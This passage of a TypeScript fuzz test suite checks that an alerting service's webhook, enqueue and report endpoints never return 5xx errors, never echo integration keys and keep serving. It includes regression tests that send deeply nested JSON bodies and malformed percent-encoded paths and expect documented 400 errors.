        name: 'Grafana webhook',
        requests: grafanaRequests(now),
        check: (res) => checkApi(res, alertsOk),
        valid: () => firingNotification('/api/v1/integrations/grafana/grafana', GRAFANA_KEY, '1'),
      },
      {
        name: 'generic webhook',
        requests: webhookRequests(now),
        check: (res) => checkApi(res, alertsOk),
        valid: () => ({ url: '/api/v1/integrations/datadog/webhook', headers: bearerJson(DATADOG_KEY), payload: JSON.stringify({ id: 'after-fuzz', title: 'still up', transition: 'Triggered' }) }),
      },
      {
        name: 'user reports POST /api/v1/reports',
        requests: reportRequests(t.auth.viewer),
        check: (res) =>
          checkApi(res, (status, body) => {
            assert.equal(status, 201);
            assert.equal(typeof body.id, 'string');
          }),
        valid: () => ({ url: '/api/v1/reports', headers: { ...t.auth.viewer, 'content-type': 'application/json' }, payload: JSON.stringify({ service: 'docs', description: 'still up' }) }),
      },
    ];
  });
  after(async () => {
    await t?.app.close();
    await env?.close();
  });

  const inject = (r: Req) => t.app.inject({ method: 'POST', url: r.url, headers: r.headers, payload: r.payload, ...(r.remoteAddress ? { remoteAddress: r.remoteAddress } : {}) });

  for (const index of [0, 1, 2, 3, 4, 5]) {
    test(`fuzz #${index + 1}: no 5xx, documented refusals, still serving afterwards`, async (ctx) => {
      const endpoint = endpoints[index];
      ctx.diagnostic(endpoint.name);
      const tally: Record<Outcome, number> = { accepted: 0, refused: 0, unauthorised: 0, throttled: 0 };
      const reasons = new Map<string, number>();
      let genMs = 0;
      let sendMs = 0;
      let sent = 0;
      let failure: string | undefined;
      const details = await fc.check(
        fc.asyncProperty(fc.array(endpoint.requests, { minLength: BATCH, maxLength: BATCH }), async (batch) => {
          const t0 = performance.now();
          const responses = await Promise.all(batch.map(inject));
          sendMs += performance.now() - t0;
          for (const res of responses) if (res.statusCode >= 300) reasons.set(reason(res), (reasons.get(reason(res)) ?? 0) + 1);
          sent += batch.length;
          responses.forEach((res, i) => {
            try {
              tally[endpoint.check(res)]++;
              for (const key of KEYS) assert.ok(!res.body.includes(key), 'an integration key is never echoed');
            } catch (e) {
              failure ??= `${(e as Error).message}\n  request: ${describeReq(batch[i])}`;
              throw e;
            }
          });
        }),
        { numRuns: Math.ceil(RUNS / BATCH), endOnFailure: true, ...(SEED === undefined ? {} : { seed: SEED }) },
      );
      if (details.failed) assert.fail(`${endpoint.name}: ${failure ?? String(details.errorInstance)}\n  (FUZZ_SEED=${details.seed})`);
      ctx.diagnostic(`${sent} requests: ${JSON.stringify(tally)} send ${Math.round(sendMs)} ms`);
      ctx.diagnostic(`most frequent refusals: ${JSON.stringify([...reasons].sort((a, b) => b[1] - a[1]).slice(0, 8))}`);
      assert.ok(sent >= RUNS, `sent ${sent}`);
      // The generators must mostly get past authentication and throttling into validation, and a
      // fair share must be stored, or the run proves little.
      assert.ok(tally.throttled <= sent * 0.01, `throttled: ${JSON.stringify(tally)}`);
      assert.ok(tally.accepted + tally.refused >= sent * 0.8, `reached validation: ${JSON.stringify(tally)}`);
      assert.ok(tally.accepted >= sent * 0.05, `accepted: ${JSON.stringify(tally)}`);
      assert.ok(tally.refused >= sent * 0.1, `refused: ${JSON.stringify(tally)}`);

      const res = await inject(endpoint.valid());
      assert.ok(res.statusCode >= 200 && res.statusCode < 300, `a valid request after the fuzzing: ${res.statusCode} ${res.body}`);
      assert.equal((await t.app.inject({ method: 'GET', url: '/healthz' })).statusCode, 200);
    });
  }
  // Found by this suite. Such a body parses fine, but storing it as sent (JSON.stringify, recursive
  // in V8) overflowed the stack past about 3,000 levels: a 500, which Alertmanager, Grafana and most
  // senders retry for ever. Bodies nesting deeper than MAX_NESTING are now refused with a 400.
  const DEEP = 10_000;
  const deep = `${'['.repeat(DEEP)}${']'.repeat(DEEP)}`;
  const recent = () => new Date(env.clock.now() - 60_000).toISOString();
  const deepCases: [string, () => Req][] = [
    ['/v2/enqueue', () => ({ url: '/v2/enqueue', headers: { 'content-type': 'application/json' }, payload: `{"routing_key":"${PD_KEY}","event_action":"trigger","dedup_key":"deep","payload":{"summary":"s","source":"x","severity":"error","custom_details":${deep}}}` })],
    ['/v2/change/enqueue', () => ({ url: '/v2/change/enqueue', headers: { 'content-type': 'application/json' }, payload: `{"routing_key":"${PD_KEY}","payload":{"summary":"s","custom_details":${deep}}}` })],
    ['alertmanager', () => ({ url: '/api/v1/integrations/prometheus/alertmanager', headers: { authorization: `Bearer ${AM_KEY}`, 'content-type': 'application/json' }, payload: `{"version":"4","groupKey":"g","status":"firing","receiver":"r","alerts":[{"status":"firing","labels":{},"startsAt":"${recent()}","fingerprint":"deep"}],"extra":${deep}}` })],
    ['grafana', () => ({ url: '/api/v1/integrations/grafana/grafana', headers: { authorization: `Bearer ${GRAFANA_KEY}`, 'content-type': 'application/json' }, payload: `{"version":"1","groupKey":"g","status":"firing","receiver":"r","alerts":[],"extra":${deep}}` })],
    ['generic webhook', () => ({ url: '/api/v1/integrations/datadog/webhook', headers: { authorization: `Bearer ${DATADOG_KEY}`, 'content-type': 'application/json' }, payload: `{"id":"deep","title":"t","transition":"Triggered","extra":${deep}}` })],
  ];
  for (const [name, make] of deepCases) {
    test(`a body nested ${DEEP} levels deep is refused with a 400, never a 5xx: ${name}`, async () => {
      const res = await inject(make());
      assert.equal(res.statusCode, 400, `${res.statusCode} ${res.body}`);
      assert.match(res.body, /more than 64 levels deep/);
    });
  }

  // Found by this suite: a malformed percent-encoding in the integration id is refused by Fastify
  // before routing; it used to get Fastify's own body instead of { error: { code, message, details } }.
  for (const path of ['/api/v1/integrations/%ZZ/alertmanager', '/api/v1/integrations/%E0%A4%A/grafana', '/api/v1/integrations/%ED%A0%80/webhook']) {
    test(`a malformed percent-encoding in the path gets the documented error body: ${path}`, async () => {
      const res = await inject({ url: path, headers: { authorization: `Bearer ${AM_KEY}`, 'content-type': 'application/json' }, payload: '{}' });
      assert.equal(res.statusCode, 400, res.body);
      assert.deepEqual(Object.keys(res.json()), ['error'], res.body);
      assert.equal(typeof res.json().error.code, 'string', res.body);
    });
  }
});
